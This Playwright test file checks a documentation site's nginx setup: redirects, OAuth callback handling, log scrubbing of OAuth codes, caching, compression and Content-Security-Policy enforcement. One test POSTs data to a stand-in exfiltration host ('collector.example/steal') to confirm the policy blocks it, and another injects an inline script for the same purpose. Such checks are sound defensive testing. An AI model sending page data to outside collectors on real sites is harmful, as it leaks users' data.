import type { Page, Response } from '@playwright/test';
import { expect, test } from './fixtures';
import { startNginx, type RunningNginx } from './nginx';
import { outDir } from '../../scripts/builtFiles';
import { scriptsOfPage } from '../../plugins/paintFirst';
import { providerIds, upstreamOrigins } from '../../providers/table';

/**
 * The repository's nginx configuration (deploy/nginx/) serving the built site, checked through HTTP and in
 * the browser: status codes, canonical redirects, cache and security headers, compression, and pages that
 * satisfy their Content-Security-Policy and request no missing file.
 */
const port = Number(process.env.E2E_NGINX_PORT ?? 4185);
let nginx: RunningNginx;

test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  nginx = await startNginx(outDir, port);
});
test.afterAll(async () => {
  await nginx?.stop();
});

const get = (path: string, headers: Record<string, string> = {}) => fetch(`${nginx.origin}${path}`, { redirect: 'manual', headers });

test('unknown paths answer 404 with the 404 page', async () => {
  for (const path of ['/nope', '/zh/guide/nope.html', '/static/js/missing.js']) {
    const res = await get(path);
    expect(res.status, path).toBe(404);
    expect(await res.text(), path).toContain('<title>404');
  }
  expect((await get('/_nginx/canonical.map')).status).toBe(404);
});

test('other spellings of a page redirect to its canonical URL', async () => {
  const cases: [string, string][] = [
    ['/FAQ/Error.html', '/faq/error.html'],
    ['/faq/error', '/faq/error.html'],
    ['/faq/error/', '/faq/error.html'],
    ['/faq/error.html/', '/faq/error.html'],
    ['/guide/install', '/guide/install/'],
    ['/guide/install/index.html', '/guide/install/'],
    ['/Guide/Install/', '/guide/install/'],
    ['/index.html', '/'],
    ['/zh/Guide/', '/zh/guide/'],
    ['/guide/drivers/crypt', '/guide/drivers/Crypt.html'],
  ];
  for (const [from, to] of cases) {
    const res = await get(from);
    expect(res.status, from).toBe(301);
    expect(res.headers.get('location'), from).toBe(to);
  }
  for (const canonical of ['/', '/faq/error.html', '/guide/install/', '/zh/guide/', '/guide/drivers/Crypt.html']) expect((await get(canonical)).status, canonical).toBe(200);
});

test('the query survives every canonical redirect', async () => {
  const cases: [string, string][] = [
    ['/faq/error?x=1&y=%2F', '/faq/error.html?x=1&y=%2F'],
    ['/Guide/Install/?code=c', '/guide/install/?code=c'],
    ['/tool/OneDrive/Callback?code=C1&state=S1', '/tool/onedrive/callback.html?code=C1&state=S1'],
    ['/tool/onedrive/callback/?code=C2', '/tool/onedrive/callback.html?code=C2'],
  ];
  for (const [from, to] of cases) {
    const res = await get(from);
    expect(res.status, from).toBe(301);
    expect(res.headers.get('location'), from).toBe(to);
  }
});

test("the callback pages answer AList's default redirect URIs (no .html) in place, with the tool pages' policy", async () => {
  for (const provider of providerIds) {
    for (const prefix of ['', '/zh']) {
      const path = `${prefix}/tool/${provider}/callback?code=CODE-${provider}&state=STATE`;
      const res = await get(path);
      const page = await get(`${prefix}/tool/${provider}/callback.html`);
      expect(res.status, path).toBe(200);
      expect(await res.text(), path).toBe(await page.text());
      expect(res.headers.get('content-security-policy'), path).toBe(page.headers.get('content-security-policy'));
      expect(res.headers.get('cache-control'), path).toBe('no-cache');
    }
  }
});

test('the access log keeps no query string and no Referer query: OAuth codes are never written down', async () => {
  await get('/tool/onedrive/callback?code=SECRET-CODE-1&state=SECRET-STATE');
  await get('/TOOL/onedrive/callback?code=SECRET-CODE-2');
  await get('/tool/nope?code=SECRET-CODE-3');
  await get('/static/js/missing.js', { referer: `${nginx.origin}/tool/google/callback?code=SECRET-CODE-4` });
  const log = nginx.accessLog();
  // The requests are in the log (so the check below reads a real log), their codes are not.
  expect(log).toContain('"GET /tool/onedrive/callback HTTP/1.1" 200');
  expect(log).toContain('"GET /tool/nope HTTP/1.1" 404');
  expect(log).toContain(`"${nginx.origin}/tool/google/callback"`);
  expect(log).not.toMatch(/SECRET|code=|state=/);
});

test("tool pages may connect only to the site, the token service and the provider table's hosts", async () => {
  const policy = (await get('/tool/google/callback.html')).headers.get('content-security-policy') ?? '';
  const connect = /connect-src ([^;]+)/.exec(policy)?.[1].split(' ') ?? [];
  // This build names no token service (TOKEN_SERVICE_URL unset).
  expect(connect.sort()).toEqual(["'self'", ...upstreamOrigins].sort());
  for (const path of ['/tool/', '/zh/tool/115/token.html', '/tool/onedrive/request.html']) {
    expect((await get(path)).headers.get('content-security-policy'), path).toBe(policy);
  }
  // Other pages keep the general policy.
  expect((await get('/guide/install/docker.html')).headers.get('content-security-policy')).toContain('connect-src \'self\' https: http:');
});

test('on a tool page the browser refuses a connection to a host outside the table and allows a provider', async ({ page }) => {
  const v = await visit(page, '/tool/dropbox/request.html');
  const outcome = await page.evaluate(async () => {
    const attempt = (url: string) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
    return { outside: await attempt('https://collector.example/steal'), provider: await attempt('https://api.dropboxapi.com/oauth2/token') };
  });
  expect(outcome.outside).toBe('refused');
  expect((await v.violations()).join()).toContain('connect-src https://collector.example/steal');
  // The provider host is allowed by the policy (the stand-in answers it): no violation names it.
  expect((await v.violations()).join()).not.toContain('dropboxapi');
  expect(outcome.provider).toBe('sent');
});

test('moving between a tool page and another page loads the new page from the server (its own policy and head)', async ({ page }) => {
  await visit(page, '/guide/drivers/dropbox.html');
  await page.evaluate(() => ((window as unknown as { sameDocument: boolean }).sameDocument = true));
  const documents: string[] = [];
  page.on('request', (r) => {
    if (r.isNavigationRequest()) documents.push(new URL(r.url()).pathname);
  });
  await page.locator('.rp-doc a[href^="/tool/dropbox/"]').first().click();
  await page.waitForURL(/\/tool\/dropbox\//);
  await expect(page.locator('form[data-provider="dropbox"], .tool-app').first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument)).toBeUndefined();
  expect(documents.some((d) => d.startsWith('/tool/dropbox/'))).toBe(true);
});

test('hashed assets are cached for a year; pages and the service worker are revalidated', async () => {
  const html = await (await get('/')).text();
  const script = scriptsOfPage(html).find((src) => src.startsWith('/static/js/'));
  expect(script).toBeTruthy();
  expect((await get(script!)).headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
  for (const path of ['/', '/guide/install/docker.html', '/sw.js', '/sitemap.xml']) expect((await get(path)).headers.get('cache-control'), path).toBe('no-cache');
});

test('responses are compressed', async () => {
  const gz = await get('/guide/install/docker.html', { 'accept-encoding': 'gzip' });
  expect(gz.headers.get('content-encoding')).toBe('gzip');
  expect(gz.headers.get('vary')).toMatch(/Accept-Encoding/i);
  if (nginx.brotli) expect((await get('/guide/install/docker.html', { 'accept-encoding': 'br, gzip' })).headers.get('content-encoding')).toBe('br');
});

test('security headers are sent, with a strict policy except on pages that run demo code', async () => {
  const res = await get('/guide/install/docker.html');
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
  const csp = res.headers.get('content-security-policy') ?? '';
  expect(csp).toMatch(/script-src 'self' 'sha256-/);
  expect(csp).not.toContain('unsafe-inline\' \'unsafe-eval');
  expect(csp).toContain("object-src 'none'");
  expect((await get('/guide/ecosystem.html')).headers.get('content-security-policy')).toContain("'unsafe-eval'");
  expect((await get('/static/js/missing.js')).headers.get('x-content-type-options')).toBe('nosniff');
});

/** Visits a page served by nginx and returns CSP violations and failed requests (favicon included). */
async function visit(page: Page, path: string, expectStatus = 200) {
  const failed: string[] = [];
  page.on('response', (r: Response) => {
    if (r.status() >= 400 && !(r.request().isNavigationRequest() && expectStatus === 404)) failed.push(`${r.status()} ${r.url()}`);
  });
  // A media element aborts its own range requests as it buffers; an abort is not a missing file.
  page.on('requestfailed', (r) => {
    if (r.failure()?.errorText !== 'net::ERR_ABORTED') failed.push(`failed ${r.url()} ${r.failure()?.errorText}`);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { cspViolations: string[] };
    w.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const res = await page.goto(`${nginx.origin}${path}`);
  expect(res?.status(), path).toBe(expectStatus);
  await page.waitForLoadState('networkidle');
  return { failed, violations: () => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations) };
}

const pages = ['/', '/zh/', '/guide/install/docker.html', '/guide/drivers/115.html', '/zh/config/configuration.html', '/guide/api/fs.html', '/tool/onedrive/request.html', '/zh/tool/115/token.html'];
for (const path of pages) {
  test(`${path} satisfies its policy and requests no missing file`, async ({ page }) => {
    const v = await visit(page, path);
    expect(await v.violations()).toEqual([]);
    expect(v.failed).toEqual([]);
  });
}

test('the strict policy really blocks an injected inline script (the checks above can fail)', async ({ page }) => {
  const v = await visit(page, '/guide/install/docker.html');
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.injected = true';
    document.head.append(s);
  });
  expect(await page.evaluate(() => (window as unknown as { injected?: boolean }).injected)).toBeUndefined();
  expect((await v.violations()).join()).toMatch(/script-src/);
});

test('a live demo and a chart configured in JavaScript run under their policy', async ({ page }) => {
  let v = await visit(page, '/guide/ecosystem.html');
  await expect(page.locator('.rich-demo__frame').first()).toBeVisible();
  expect(await v.violations()).toEqual([]);
  expect(v.failed).toEqual([]);
  v = await visit(page, '/guide/changelog.html');
  await expect(page.locator('[data-config-type="js"]').first()).toHaveAttribute('data-state', 'ready');
  expect(await v.violations()).toEqual([]);
});

test('search loads its index under the policy, and the 404 page requests nothing missing', async ({ page }) => {
  const v = await visit(page, '/guide/');
  await expect(page.getByTestId('search-button').first()).toHaveAttribute('data-ready', '');
  await page.getByTestId('search-button').first().click();
  await page.getByTestId('search-input').fill('docker');
  await expect(page.getByTestId('search-results')).toBeVisible();
  expect(await v.violations()).toEqual([]);
  expect(v.failed).toEqual([]);
  const missing = await visit(page, '/no-such-page', 404);
  await expect(page.locator('.not-found')).toBeVisible();
  expect(await missing.violations()).toEqual([]);
  expect(missing.failed).toEqual([]);
});
